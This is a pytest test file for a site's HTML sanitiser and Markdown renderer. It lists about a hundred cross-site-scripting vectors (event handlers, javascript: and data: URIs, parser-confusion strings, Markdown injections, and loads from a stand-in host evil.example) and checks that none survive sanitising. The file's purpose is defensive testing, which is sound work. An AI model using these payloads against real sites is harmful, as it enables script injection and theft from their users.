"""Safe HTML: what an attack leaves behind, seen as a browser's parser sees it."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from plugins.contributions.body import BodyRenderer
from plugins.core.safe_html import ATTRIBUTES, CLASSES, TAGS, sanitise

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<img src="x`" `<script>alert(1)</script>"` `>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<body onload=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<a href="#" onclick=alert(1)>x</a>
<a onmouseover="alert(1)">x</a>
<p onfocus=alert(1) tabindex=0 autofocus>x</p>
<marquee onstart=alert(1)>x</marquee>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<input onfocus=alert(1) autofocus>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="{index}javascript:alert(1)">x</a>
<a href="{attach}../../../etc/passwd">x</a>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="https://evil.example/track.gif">
<img src="//evil.example/track.gif">
<img src="{static}/../../etc/passwd">
<img srcset="https://evil.example/x 1x">
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><use href="data:image/svg+xml,x#x"></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<frameset><frame src="javascript:alert(1)"></frameset>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<form action="https://evil.example"><input name=x><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<style>@import "https://evil.example/x.css";</style>
<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>
<table background="https://evil.example/x"><tr><td>x</td></tr></table>
<td background="javascript:alert(1)">x</td>
<blockquote cite="javascript:alert(1)">x</blockquote>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>
<h2 id="main">x</h2>
<a id="search" class="skip-link" href="#">x</a>
<div class="help__number" data-x="y">x</div>
<dialog open>x</dialog>
<a href="https://example.org" target=_blank ping="https://evil.example">x</a>
[x](javascript:alert(1))
[x](<java&#115;cript:alert(1)>)
[x]: javascript:alert(1) "t"
![x](https://evil.example/track.gif)
![x"onerror="alert(1)](x)
[x](https://example.org "onmouseover=alert(1) x=\"")
[x](#){: onclick="alert(1)" style="position:fixed"}
## x {: #main .help onclick=alert(1)}
<div markdown="1" onclick="alert(1)">*x*</div>
<https://example.org/"onmouseover="alert(1)>
<javascript:alert(1)>
x[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>
x[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: x
*[x]: "><script>alert(1)</script>\n\nx
!!! danger "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>
'''.strip().split("\n")
SAFE_LINK = re.compile(r"(https?:|mailto:|tel:|#|/|\{filename\}|[^:{]*$)", re.IGNORECASE)
SAFE_ID = re.compile(r"s-|fn:|fnref\d*:")
PIECES = [
    "<a href='javascript:x'>",
    "</a>",
    "<svg>",
    "<style>",
    "</style>",
    "<math>",
    "<p title='",
    "'>",
    "<!--",
    "-->",
    "<table>",
    "<td>",
    "</p>",
    "x",
    '"',
    "&lt;",
    "<img src=x onerror=y>",
    "<noscript>",
    "<mtext>",
]


def find_dangers(html: str) -> Iterator[str]:
    """Yield what could do harm in *html*, as a browser would build it, by rules of the test's own."""
    for element in lxml_html.document_fromstring(f"<html><body><div>{html}</div></body></html>").iterfind(".//div//*"):
        if not isinstance(element.tag, str) or element.tag not in TAGS:
            yield f"<{element.tag}>"
            continue
        for name, value in element.attrib.items():
            allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set())
            wrong = name not in allowed and (element.tag, name) not in {("td", "class"), ("th", "class")}
            wrong |= name == "href" and not SAFE_LINK.match(re.sub(r"[\x00-\x20]", "", value))
            wrong |= name == "src" and not value.startswith("{static}/pictures/")
            wrong |= name == "id" and not SAFE_ID.match(value)
            wrong |= name == "class" and element.tag in CLASSES and not set(value.split()) <= CLASSES[element.tag]
            if wrong:
                yield f"{element.tag} {name}={value}"


@pytest.mark.parametrize("vector", VECTORS)
def test_attacks_leave_nothing(vector: str) -> None:
    """Nothing foreign, no handler and no other scheme is left, as HTML and as Markdown through the whole path."""
    text = vector.replace("\\n", "\n")
    assert list(find_dangers(sanitise(text))) == []
    assert list(find_dangers(BodyRenderer(lambda lang, _: lang + " {}").render(text, "ca").html)) == []


@pytest.mark.parametrize(
    "html", ["<script>x</script>", "<p onclick=x>y</p>", "<a href=javascript:x>y</a>", "<img src=x>"]
)
def test_dangers_are_found(html: str) -> None:
    """The judge of the tests above does see a danger."""
    assert list(find_dangers(html)) != []


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://example.org/" title="x">x</a>',
        '<a href="mailto:a@example.org">x</a>',
        '<a href="tel:016">x</a>',
        '<a href="{filename}/pages/x.ca.md#s-y">x</a>',
        '<img src="{static}/pictures/mans.png" alt="Mans">',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        '<h2 id="s-qui-som">Qui som</h2>',
        '<div class="admonition note"><p class="admonition-title">x</p></div>',
        '<p><abbr title="Llei orgànica">LO</abbr> <i lang="gl">mesa</i></p>',
        "<details><summary>x</summary><p>y</p></details>",
        '<table><thead><tr><th scope="col">x</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>',
        '<ol start="3"><li value="4">x</li></ol>',
    ],
)
def test_what_articles_need_stays(html: str) -> None:
    """Links, notes, tables, abbreviations and pictures of this site pass unchanged."""
    assert sanitise(html) == html


def test_foreign_classes_go() -> None:
    """A class of the theme cannot be borrowed, a listed one beside it stays."""
    assert sanitise('<div class="admonition help">x</div>') == '<div class="admonition">x</div>'


@given(st.one_of(st.text(), st.lists(st.sampled_from(PIECES), max_size=20).map("".join)))
def test_text_stays_safe_however_often_it_is_parsed(text: str) -> None:
    """Not even what HTML itself moves about when parsed again, as links that straddle tables, becomes dangerous."""
    once = sanitise(text)
    twice = sanitise(once)
    assert list(find_dangers(once)) == []
    assert list(find_dangers(twice)) == []


@given(st.lists(st.sampled_from([piece for piece in PIECES if "<a" not in piece and "<t" not in piece])).map("".join))
@pytest.mark.parametrize("prefix", ["", "<div>", "</p>"])
def test_sanitising_twice_changes_nothing(prefix: str, text: str) -> None:
    """What was sanitised is sanitised: a second time finds the same bytes."""
    once = sanitise(prefix + text)
    assert sanitise(once) == once
